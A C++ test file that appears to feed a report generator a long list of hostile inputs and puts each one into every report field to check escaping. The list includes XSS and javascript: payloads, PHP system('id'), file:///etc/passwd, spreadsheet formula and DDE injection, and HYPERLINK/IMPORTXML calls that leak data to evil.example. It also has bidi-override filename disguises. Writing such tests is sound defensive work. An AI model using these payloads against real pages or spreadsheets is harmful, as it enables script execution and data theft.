#include "tests/report/hostile.h"

#include <array>
#include <string>
#include <vector>

#include "tests/report/sample_report.h"

namespace assay::test {

namespace {

using namespace std::string_view_literals;

constexpr std::array kPayloads{
    // Elements and attributes
    "<script>alert(1)</script>"sv,
    "</script><script>alert(1)</script>"sv,
    "<ScRiPt>alert(1)</sCrIpT>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "<svg onload=alert(1)>"sv,
    "<svg><script>alert(1)</script></svg>"sv,
    "<iframe src=\"javascript:alert(1)\"></iframe>"sv,
    "<a href=\"javascript:alert(1)\">x</a>"sv,
    "<style>*{display:none}</style>"sv,
    "</style><script>alert(1)</script>"sv,
    "</title><script>alert(1)</script>"sv,
    "</textarea><script>alert(1)</script>"sv,
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">"sv,
    "<base href=\"//evil.example/\">"sv,
    "<form action=\"//evil.example\"><input name=x></form>"sv,
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"sv,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"sv,
    "<!--><img src=x onerror=alert(1)>-->"sv,
    "<![CDATA[<script>alert(1)</script>]]>"sv,
    "<?php system('id'); ?>"sv,
    "\" onmouseover=\"alert(1)"sv,
    "' onmouseover='alert(1)"sv,
    "\"><script>alert(1)</script>"sv,
    "'><script>alert(1)</script>"sv,
    "\" style=\"position:fixed;inset:0\" x=\""sv,
    "` onmouseover=`alert(1)"sv,
    "&lt;script&gt;alert(1)&lt;/script&gt;"sv,
    "&#60;script&#62;alert(1)&#60;/script&#62;"sv,
    "&amp;lt;b&amp;gt;"sv,
    "<mark id=\"t-Q1\">"sv,
    "</mark></p></section></main></body></html>"sv,
    "<b><i><u><s>"sv,
    "</"sv,
    "<"sv,
    "<<<<<<<<"sv,
    // Addresses as words
    "javascript:alert(1)"sv,
    "JaVaScRiPt:alert(1)"sv,
    " javascript:alert(1)"sv,
    "java\tscript:alert(1)"sv,
    "data:text/html,<script>alert(1)</script>"sv,
    "vbscript:msgbox(1)"sv,
    "file:///etc/passwd"sv,
    "//evil.example/x"sv,
    "http://evil.example/"sv,
    "https://evil.example/\" onclick=\"alert(1)"sv,
    "www.evil.example"sv,
    "WWW.evil.example/path"sv,
    "mailto:x@evil.example"sv,
    "somebody@evil.example"sv,
    // Formulas
    "=1+1"sv,
    "=cmd|' /C calc'!A0"sv,
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"open\")"sv,
    "=IMPORTXML(\"http://evil.example\",\"//a\")"sv,
    "+1+1"sv,
    "-1+1"sv,
    "-2+3+cmd|' /C calc'!A0"sv,
    "@SUM(1+1)*cmd|' /C calc'!A0"sv,
    " =1+1"sv,
    "\t=1+1"sv,
    "\n=1+1"sv,
    "\r=1+1"sv,
    "x;=1+1"sv,
    "x\n=1+1"sv,
    "x\t@SUM(1)"sv,
    "\",\"=1+1"sv,
    "\"\r\n=1+1"sv,
    "\u00A0=1+1"sv,
    "＝1+1"sv,
    "＋1＋1"sv,
    "－1"sv,
    "＠SUM(1)"sv,
    "DDE(\"cmd\";\"/C calc\";\"x\")"sv,
    "''=1+1"sv,
    // Markdown
    "[click](javascript:alert(1))"sv,
    "![x](http://evil.example/x.png)"sv,
    "[x]: http://evil.example"sv,
    "[x][y]"sv,
    "<http://evil.example>"sv,
    "<somebody@evil.example>"sv,
    "# A heading"sv,
    "## A heading"sv,
    "- a list"sv,
    "* a list"sv,
    "+ a list"sv,
    "1. a list"sv,
    "12345) a list"sv,
    "> a quote"sv,
    "```\ncode\n```"sv,
    "    code"sv,
    "\tcode"sv,
    "`code`"sv,
    "**bold** *italic* __bold__ _italic_"sv,
    "~~gone~~"sv,
    "| a | b |\n|---|---|\n| c | d |"sv,
    "x | y"sv,
    "---"sv,
    "==="sv,
    "***"sv,
    "___"sv,
    "line\n==="sv,
    "line\n\n# heading"sv,
    "back\\slash \\* \\["sv,
    "ends with a backslash\\"sv,
    "$x^2$ $$y$$"sv,
    "&copy; &#35; &nbsp;"sv,
    "{{ template }} {% raw %} ${x} #{y}"sv,
    "[^1] footnote"sv,
    "- [ ] task"sv,
    "@somebody #1 :tada:"sv,
    // Disguises
    "user\u202Egpj.exe"sv,
    "\u2066left\u2069 \u2067right\u2069"sv,
    "\u061C\u200E\u200F"sv,
    "\u202A\u202B\u202C\u202D"sv,
    "a\u2028b\u2029c"sv,
    "\uFEFF=1+1"sv,
    "bell \x07 escape \x1B[31mred\x1B[0m"sv,
    "\x01\x02\x08\x0B\x0C\x7F"sv,
    "\u0085\u009B31m"sv,
    "\uFFFE\uFFFF\U0001FFFE"sv,
    // Not UTF-8
    "\xFF\xFE"sv,
    "\xC0\xAFscript"sv,
    "cut \xE2\x80"sv,
    "\xED\xA0\x80"sv,
    // JSON
    "\"}],\"items\":[{\"number\":\"Q1"sv,
    "\\u0022 \\\" \\n"sv,
    // Plain, but awkward
    ""sv,
    " "sv,
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é"sv,
    "مرحبا שלום नमस्ते 你好"sv,
    "{0} {1} %s %n %d"sv,
};

std::string longWord() { return std::string(20'000, 'w'); }

}  // namespace

std::span<const std::string_view> hostilePayloads() {
  static const std::string kLong = longWord();
  static const std::vector<std::string_view> kAll = [] {
    std::vector<std::string_view> all(kPayloads.begin(), kPayloads.end());
    all.emplace_back(kLong);
    return all;
  }();
  return kAll;
}

report::ReportData hostileReport(std::string_view payload, std::string_view url) {
  const std::string words{payload};
  report::ReportData data = bareReport("Before " + words + " after, and the end.");
  data.articleNumber = "A1";
  data.title = words;
  data.byline = words;
  data.outlet = words;
  data.url = url;
  data.origin = words;
  data.program = words;
  data.storeHead = words;
  for (std::int64_t i = 1; i <= 2; ++i) {
    model::Source source;
    source.number = i;
    source.kind = model::SourceKind::other;
    source.title = words;
    source.author = words;
    source.publisher = words;
    source.url = url;
    source.archivedUrl = url;
    source.lookedAt = words;
    source.contact = words;
    source.note = words;
    data.sources.push_back({model::sourceNumberText(i), std::move(source)});
  }
  for (const auto& [kind, at] :
       {std::pair(model::ItemKind::direct, "Before"), std::pair(model::ItemKind::claim, "after,"),
        std::pair(model::ItemKind::claim, "end.")}) {
    const auto number = static_cast<std::int64_t>(data.items.size() + 1);
    report::ReportItem& item = addItem(data, kind, number, model::Status::disputed, at);
    item.item.anchor.exact = words;
    item.item.anchor.prefix = words;
    item.item.anchor.suffix = words;
    item.item.verdict = words;
    item.item.explanation = words;
    item.item.note = words;
    item.item.correction = words;
    item.speaker = words;
    item.speakerRoles = {words, words};
    item.checkedBy = words;
    item.checkedAt = data.generatedAt;
    item.evidence = {{0, model::Stance::supports, words, words, words},
                     {1, model::Stance::refutes, words, words, words}};
  }
  return data;
}

}  // namespace assay::test
